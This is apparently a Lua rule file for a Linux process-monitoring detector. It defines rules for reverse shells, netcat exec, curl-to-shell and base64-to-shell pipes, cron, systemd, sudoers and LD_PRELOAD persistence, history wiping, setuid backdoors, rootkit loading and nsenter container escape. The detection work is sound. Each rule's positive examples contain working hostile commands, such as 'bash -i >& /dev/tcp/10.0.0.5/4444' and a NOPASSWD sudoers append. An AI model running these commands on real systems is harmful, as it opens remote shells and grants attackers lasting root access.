-- Linux process behaviour: shells, downloads, persistence, tampering.
local rules = require "etwlua.rules"
local m = require "etwlua.match"
local enc = require "etwlua.encoding"

local shells = m.set { "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "fish" }
local interp = m.set { "sh", "bash", "dash", "zsh", "ksh", "python", "python2", "python3", "perl", "ruby", "php",
                       "lua", "node", "awk", "gawk" }
local function cl(p) return p.command_line or "" end
local function is_shell_c(p) return shells[p.name or ""] ~= nil end

rules.define {
  id = "lnx.reverse_shell_dev_tcp", platform = "linux", severity = "critical",
  title = "Shell redirected to /dev/tcp (reverse shell)",
  description = "bash -i >& /dev/tcp/host/port 0>&1 connects an interactive shell to a remote listener.",
  technique = { "T1059.004", "T1071" },
  falsepositives = { "Shell scripts that use /dev/tcp for health checks (without -i)" },
  match = function(p) local c = cl(p) return is_shell_c(p) and c:find("/dev/[tu][cd]p/") ~= nil end,
  examples = {
    positive = { { image = "/usr/bin/bash", command_line = "bash -c 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'" },
                 { image = "/bin/sh", command_line = "sh -c 'exec 5<>/dev/tcp/x.test/80; cat <&5 | sh >&5'" } },
    negative = { { image = "/usr/bin/bash", command_line = "bash -c 'echo hello'" },
                 { image = "/usr/bin/cat", command_line = "cat /dev/tcp.txt" } },
  },
}

rules.define {
  id = "lnx.netcat_exec", platform = "linux", severity = "critical",
  title = "netcat executes a program for a connection",
  description = "nc -e /bin/sh (or ncat -c) hands a shell to whoever connects or is connected to.",
  technique = { "T1059.004" },
  falsepositives = { "None known" },
  match = function(p)
    local n = p.name or ""
    if not (n == "nc" or n == "ncat" or n == "netcat" or n:find("^nc%.")) then return false end
    for _, a in ipairs(p.args) do if a == "-e" or a == "-c" or a:find("^%-%-exec") or a:find("^%-%-sh%-exec") then return true end end
  end,
  examples = {
    positive = { { image = "/usr/bin/nc.traditional", command_line = "nc -e /bin/sh 10.0.0.5 4444" },
                 { image = "/usr/bin/ncat", command_line = "ncat --exec /bin/bash -l 9001" } },
    negative = { { image = "/usr/bin/nc", command_line = "nc -zv db 5432" },
                 { image = "/usr/bin/ncat", command_line = "ncat -l 8080" } },
  },
}

local pty = m.wildcards { "*pty.spawn*", "*socket.socket*connect*", "*use socket*", "*fsockopen*", "*tcpsocket*",
                          "*socket*subprocess*", "*os.dup2*" }
rules.define {
  id = "lnx.interpreter_reverse_shell", platform = "linux", severity = "critical",
  title = "Python, Perl, Ruby or PHP one-liner opens a shell or socket",
  description = "python -c 'import pty; pty.spawn(...)', perl -e 'use Socket...' and friends upgrade or open "
    .. "reverse shells.",
  technique = { "T1059.006", "T1059" },
  falsepositives = { "Developers testing sockets from a one-liner" },
  match = function(p)
    local n = (p.name or ""):gsub("[%d%.]+$", "")
    local c = cl(p)
    return (n == "python" or n == "perl" or n == "ruby" or n == "php") and (c:find(" %-c ") or c:find(" %-e ") or
      c:find(" %-r ")) ~= nil and pty(c)
  end,
  examples = {
    positive = { { image = "/usr/bin/python3.11", command_line = [[python3 -c 'import pty; pty.spawn("/bin/bash")']] },
                 { image = "/usr/bin/perl",
                   command_line = [[perl -e 'use Socket;$i="10.0.0.5";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"))']] } },
    negative = { { image = "/usr/bin/python3.11", command_line = "python3 -c 'print(1)'" },
                 { image = "/usr/bin/python3.11", command_line = "python3 manage.py runserver" } },
  },
}

rules.define {
  id = "lnx.download_piped_to_shell", platform = "linux", severity = "high",
  title = "Download piped straight into a shell",
  description = "curl ... | sh and wget -O- ... | bash run whatever the server sends, unseen.",
  technique = { "T1059.004", "T1105" },
  falsepositives = { "Vendor install one-liners (rustup, get.docker.com)" },
  match = function(p)
    local c = cl(p)
    return is_shell_c(p) and (c:find("curl") or c:find("wget")) ~= nil and
      (c:find("|%s*sudo%s+[bd]?a?sh") or c:find("|%s*[bdkz]?a?sh%f[%W]") or c:find("|%s*/bin/[bd]?a?sh")) ~= nil
  end,
  examples = {
    positive = { { image = "/usr/bin/dash", command_line = "sh -c 'curl -fsSL http://x.test/i.sh | sh'" },
                 { image = "/usr/bin/bash", command_line = "bash -c 'wget -qO- http://10.0.0.5/x | bash -s'" } },
    negative = { { image = "/usr/bin/bash", command_line = "bash -c 'curl -o /tmp/a http://x.test/a'" },
                 { image = "/usr/bin/bash", command_line = "bash -c 'ps aux | grep sh'" } },
  },
}

local tmp = m.wildcards { "/tmp/*", "/var/tmp/*", "/dev/shm/*", "/run/user/*/tmp*" }
rules.define {
  id = "lnx.exec_from_tmp", platform = "linux", severity = "high",
  title = "Program executed from /tmp, /var/tmp or /dev/shm",
  description = "World-writable, often noexec-less scratch folders are where droppers put their next stage.",
  technique = { "T1059", "T1036.005" },
  falsepositives = { "Build systems and installers that unpack to /tmp",
                     "Test suites that install into a temporary prefix and run from it (etwlua's own end-to-end "
                       .. "install case: tests/rules/live-noise.md)" },
  match = function(p) return tmp(p.image) end,
  examples = {
    positive = { { image = "/tmp/.x/kworker", command_line = "/tmp/.x/kworker -c cfg" },
                 { image = "/dev/shm/a", command_line = "/dev/shm/a" } },
    negative = { { image = "/usr/bin/ls", command_line = "ls /tmp" },
                 { image = "/home/bob/bin/tool", command_line = "tool" } },
  },
}

local servers = m.set { "nginx", "apache2", "httpd", "php-fpm", "php-fpm8.2", "lighttpd", "tomcat", "java", "node",
                        "mysqld", "mariadbd", "postgres", "redis-server", "mongod", "uwsgi", "gunicorn" }
local service_users = m.set { "www-data", "nginx", "apache", "httpd", "mysql", "postgres", "redis", "tomcat", "nobody" }
rules.define {
  id = "lnx.service_spawns_shell", platform = "linux", severity = "high",
  title = "Web server or database starts a shell",
  description = "A shell under nginx, Apache, PHP-FPM, Tomcat or a database (or as their users) is what a web "
    .. "shell or an SQL-injection-to-RCE looks like.",
  technique = { "T1505.003", "T1190" },
  falsepositives = { "CGI scripts that are shell scripts; postgres archive_command" },
  match = function(p)
    if not (shells[p.name or ""] or interp[p.name or ""]) then return false end
    local parent = p.parent_name and p.parent_name:gsub("[%d%.]+$", "")
    return (p.parent_name and (servers[p.parent_name] or servers[parent or ""])) or service_users[p.user or ""] or false
  end,
  examples = {
    positive = { { image = "/usr/bin/dash", command_line = "sh -c id", parent_image = "/usr/sbin/php-fpm8.2",
                   user = "www-data" },
                 { image = "/usr/bin/bash", command_line = "bash -i", parent_image = "/usr/sbin/nginx" } },
    negative = { { image = "/usr/bin/bash", command_line = "bash", parent_image = "/usr/sbin/sshd", user = "bob" },
                 { image = "/usr/sbin/nginx", command_line = "nginx -s reload", parent_image = "/usr/bin/bash" } },
  },
}

rules.define {
  id = "lnx.cron_persistence_from_shell", platform = "linux", severity = "medium",
  title = "Crontab installed or cron file written from a shell",
  description = "crontab FILE, crontab - and echo ... >> /etc/cron* add a job that survives reboots.",
  technique = { "T1053.003" },
  falsepositives = { "Configuration management (Ansible, Puppet) editing cron" },
  match = function(p)
    local c = cl(p)
    if p.name == "crontab" then
      for i = 2, #p.args do
        local a = p.args[i]
        if a == "-" or not a:find("^%-") then return true end
      end
      return false
    end
    return is_shell_c(p) and (c:find(">>?%s*/etc/cron") or c:find(">>?%s*/var/spool/cron")) ~= nil
  end,
  examples = {
    positive = { { image = "/usr/bin/crontab", command_line = "crontab /tmp/c.txt" },
                 { image = "/usr/bin/bash", command_line = "bash -c 'echo \"* * * * * root /tmp/x\" >> /etc/crontab'" } },
    negative = { { image = "/usr/bin/crontab", command_line = "crontab -l" },
                 { image = "/usr/bin/bash", command_line = "bash -c 'cat /etc/crontab'" } },
  },
}

rules.define {
  id = "lnx.systemd_persistence_from_shell", platform = "linux", severity = "medium",
  title = "systemd unit created or enabled from an unusual place",
  description = "systemctl enable/link of a unit in /tmp or a home folder, or a unit file written with echo, "
    .. "installs persistence; systemd-run --on-calendar schedules it.",
  technique = { "T1543.002", "T1053.006" },
  falsepositives = { "Package installs (which use /usr/lib/systemd)" },
  match = function(p)
    local c = cl(p)
    if p.name == "systemctl" then
      return (c:find(" link ") or c:find(" enable ")) ~= nil and (c:find("/tmp/") or c:find("/home/") or c:find("/dev/shm/")) ~= nil
    end
    if p.name == "systemd-run" then return c:find("%-%-on%-calendar") ~= nil or c:find("%-%-on%-boot") ~= nil end
    return is_shell_c(p) and c:find(">>?%s*/etc/systemd/system/") ~= nil
  end,
  examples = {
    positive = { { image = "/usr/bin/systemctl", command_line = "systemctl enable /tmp/updater.service" },
                 { image = "/usr/bin/bash", command_line = "bash -c 'echo [Service] > /etc/systemd/system/x.service'" } },
    negative = { { image = "/usr/bin/systemctl", command_line = "systemctl enable nginx.service" },
                 { image = "/usr/bin/systemctl", command_line = "systemctl status sshd" } },
  },
}

rules.define {
  id = "lnx.sudoers_modified", platform = "linux", severity = "high",
  title = "sudoers changed outside visudo",
  description = "Writing to /etc/sudoers or /etc/sudoers.d with echo/tee/sed grants root quietly.",
  technique = { "T1548.003" },
  falsepositives = { "Configuration management writing sudoers.d" },
  match = function(p)
    local c = cl(p)
    if p.name == "visudo" then return false end
    local writer = c:find(">") or p.name == "tee" or p.name == "sed" or p.name == "cp" or p.name == "mv" or
      p.name == "install"
    return c:find("/etc/sudoers") ~= nil and writer ~= nil and writer ~= false
  end,
  examples = {
    positive = { { image = "/usr/bin/bash", command_line = "bash -c 'echo \"bob ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers'" },
                 { image = "/usr/bin/tee", command_line = "tee -a /etc/sudoers.d/99-x" } },
    negative = { { image = "/usr/sbin/visudo", command_line = "visudo -c" },
                 { image = "/usr/bin/cat", command_line = "cat /etc/sudoers" } },
  },
}

rules.define {
  id = "lnx.history_tampering", platform = "linux", severity = "medium",
  title = "Shell history cleared or disabled",
  description = "history -c, unset HISTFILE, HISTFILE=/dev/null and deleting or linking .bash_history erase "
    .. "the trail.",
  technique = { "T1070.003" },
  falsepositives = { "Users tidying their own history" },
  match = function(p)
    local c = cl(p)
    local hit = c:find("history %-c") or c:find("unset HISTFILE") or c:find("HISTFILE=/dev/null") or
      c:find("HISTSIZE=0") or ((p.name == "rm" or p.name == "shred" or p.name == "ln" or p.name == "truncate") and
      c:find("_history"))
    return hit ~= nil and hit ~= false
  end,
  examples = {
    positive = { { image = "/usr/bin/rm", command_line = "rm -f /root/.bash_history" },
                 { image = "/usr/bin/bash", command_line = "bash -c 'unset HISTFILE; id'" } },
    negative = { { image = "/usr/bin/bash", command_line = "bash -c history" },
                 { image = "/usr/bin/cat", command_line = "cat ~/.bash_history" } },
  },
}

rules.define {
  id = "lnx.setuid_set", platform = "linux", severity = "high",
  title = "setuid bit set on a file",
  description = "chmod u+s / 4755 on a copy of a shell or a binary in a writable folder is a root backdoor.",
  technique = { "T1548.001" },
  falsepositives = { "Package maintainer scripts (dpkg) setting setuid on their own binaries" },
  match = function(p)
    if p.name ~= "chmod" then return false end
    for i = 2, #p.args do
      local a = p.args[i]
      if a:find("^[ugoa]*%+[rwxXt]*s") or a:find("^[2467][0-7][0-7][0-7]$") then return true end
    end
  end,
  examples = {
    positive = { { image = "/usr/bin/chmod", command_line = "chmod u+s /tmp/bash" },
                 { image = "/usr/bin/chmod", command_line = "chmod 4755 /var/tmp/.sh" } },
    negative = { { image = "/usr/bin/chmod", command_line = "chmod 755 /usr/local/bin/tool" },
                 { image = "/usr/bin/chmod", command_line = "chmod +x run.sh" } },
  },
}

rules.define {
  id = "lnx.kernel_module_loaded", platform = "linux", severity = "medium",
  title = "Kernel module loaded by hand",
  description = "insmod of a file, or modprobe of a module from an unusual path, is how rootkits arrive.",
  technique = { "T1547.006" },
  falsepositives = { "Driver developers; DKMS builds" },
  match = function(p)
    local c = cl(p)
    if p.name == "insmod" then return true end
    return p.name == "modprobe" and not c:find(" %-r") and not c:find(" %-%-remove") and
      (c:find("/tmp/") or c:find("/home/") or c:find("/dev/shm/") or c:find("%.ko")) ~= nil
  end,
  examples = {
    positive = { { image = "/usr/sbin/insmod", command_line = "insmod /tmp/diamorphine.ko" },
                 { image = "/usr/sbin/modprobe", command_line = "modprobe /home/bob/rk.ko" } },
    negative = { { image = "/usr/sbin/modprobe", command_line = "modprobe -r floppy" },
                 { image = "/usr/sbin/modprobe", command_line = "modprobe overlay" } },
  },
}

rules.define {
  id = "lnx.nsenter_host_namespaces", platform = "linux", severity = "critical",
  title = "nsenter into PID 1's namespaces (container escape)",
  description = "nsenter --target 1 --mount --uts --ipc --net --pid from a container gives a host shell.",
  technique = { "T1611" },
  falsepositives = { "Node debugging by cluster admins" },
  match = function(p)
    local c = cl(p)
    return p.name == "nsenter" and (c:find("%-t%s*1%f[%D]") or c:find("%-%-target[=%s]1%f[%D]")) ~= nil
  end,
  examples = {
    positive = { { image = "/usr/bin/nsenter", command_line = "nsenter -t 1 -m -u -i -n -p -- bash" },
                 { image = "/usr/bin/nsenter", command_line = "nsenter --target=1 --mount sh" } },
    negative = { { image = "/usr/bin/nsenter", command_line = "nsenter -t 4242 -n ip addr" },
                 { image = "/usr/bin/unshare", command_line = "unshare -r id" } },
  },
}

rules.define {
  id = "lnx.base64_piped_to_shell", platform = "linux", severity = "high",
  title = "Base64-decoded payload piped into a shell",
  description = "echo <base64> | base64 -d | sh runs hidden commands; the decoded text is in the alert.",
  technique = { "T1140", "T1059.004" },
  falsepositives = { "Deployment scripts that ship encoded config (not usually piped to sh)" },
  match = function(p)
    local c = cl(p)
    if not is_shell_c(p) or not c:find("base64") then return false end
    if not (c:find("%-d") or c:find("%-%-decode")) then return false end
    if c:find("|%s*[bdkz]?a?sh%f[%W]") or c:find("|%s*/bin/[bd]?a?sh") or c:find("|%s*sudo") then
      local blob = enc.base64_blob(c)
      local text = blob and enc.base64_decode(blob)
      return true, text and ("decoded: " .. text) or nil
    end
  end,
  examples = {
    positive = { { image = "/usr/bin/bash",
                   command_line = "bash -c 'echo Y3VybCBodHRwOi8veC50ZXN0L2kuc2ggfCBzaCAtcyAtLSAtLXF1aWV0 | base64 -d | sh'" },
                 { image = "/usr/bin/dash", command_line = "sh -c 'base64 --decode /tmp/p | bash'" } },
    negative = { { image = "/usr/bin/bash", command_line = "bash -c 'base64 -d cert.b64 > cert.der'" },
                 { image = "/usr/bin/base64", command_line = "base64 -d x" } },
  },
}

rules.define {
  id = "lnx.ld_preload_persistence", platform = "linux", severity = "high",
  title = "Library preloaded system-wide or into a command",
  description = "Writing /etc/ld.so.preload, or LD_PRELOAD=./x.so on a command line, hooks every process.",
  technique = { "T1574.006" },
  falsepositives = { "Memory debuggers (libasan, jemalloc) set by developers" },
  match = function(p)
    local c = cl(p)
    return (c:find("/etc/ld%.so%.preload") and (c:find(">") or p.name == "tee" or p.name == "cp")) or
      (c:find("LD_PRELOAD=") and (c:find("/tmp/") or c:find("/dev/shm/") or c:find("=%./"))) or false
  end,
  examples = {
    positive = { { image = "/usr/bin/bash", command_line = "bash -c 'echo /tmp/h.so > /etc/ld.so.preload'" },
                 { image = "/usr/bin/env", command_line = "env LD_PRELOAD=/dev/shm/x.so /usr/bin/sudo -l" } },
    negative = { { image = "/usr/bin/cat", command_line = "cat /etc/ld.so.preload" },
                 { image = "/usr/bin/env", command_line = "env LD_PRELOAD=/usr/lib/libjemalloc.so app" } },
  },
}

rules.define {
  id = "lnx.download_then_execute_tmp", platform = "linux", severity = "high",
  title = "File fetched into a scratch folder and made executable",
  description = "curl/wget -o /tmp/x followed by chmod +x in one command line is a dropper.",
  technique = { "T1105", "T1222.002" },
  falsepositives = { "Install scripts" },
  match = function(p)
    local c = cl(p)
    return is_shell_c(p) and (c:find("curl") or c:find("wget")) ~= nil and c:find("chmod") ~= nil and
      (c:find("/tmp/") or c:find("/dev/shm/") or c:find("/var/tmp/")) ~= nil
  end,
  examples = {
    positive = { { image = "/usr/bin/bash", command_line = "bash -c 'wget http://x.test/b -O /tmp/b; chmod +x /tmp/b; /tmp/b'" } },
    negative = { { image = "/usr/bin/bash", command_line = "bash -c 'curl -o /tmp/a.json http://api/x'" },
                 { image = "/usr/bin/bash", command_line = "bash -c 'chmod +x /tmp/script.sh'" } },
  },
}
